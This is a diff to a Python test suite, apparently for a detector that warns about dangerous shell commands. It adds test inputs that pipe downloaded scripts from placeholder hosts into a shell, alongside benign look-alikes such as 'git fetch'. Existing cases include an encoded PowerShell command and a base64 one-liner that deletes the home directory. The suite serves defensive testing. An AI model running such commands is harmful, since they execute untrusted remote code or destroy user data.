@@ -202,6 +202,8 @@ def test_harmful_commands_carry_a_warning_in_causes_too(text: str) -> None:
         "curl https://fix.example/x -o x && sh x",
         "curl -s https://fix.example/x.sh | tee log | sudo -E /bin/bash",
         "curl -s https://fix.example/x.sh |\n bash",
+        "curl https://fix.example/x.sh | TOKEN=b sh",
+        "fetch -o - https://fix.example/x.sh | sh",
         "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
         "echo cm0gLXJmIH4= | base64 -d | sh",
         # a vendor's name is not enough
@@ -223,6 +225,9 @@ def test_a_strangers_script_is_known_however_it_is_run(text: str) -> None:
         "curl -LO https://x.example/a.tar.gz && tar xf a.tar.gz",
         'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
         "the answer of `curl https://x.example` is empty; bash then stops",
+        "git fetch origin && sh build.sh",
+        "npm run fetch && sh test.sh",
+        "TypeError: fetch failed | node 18",
     ],
 )
 def test_a_download_is_no_script(text: str) -> None:
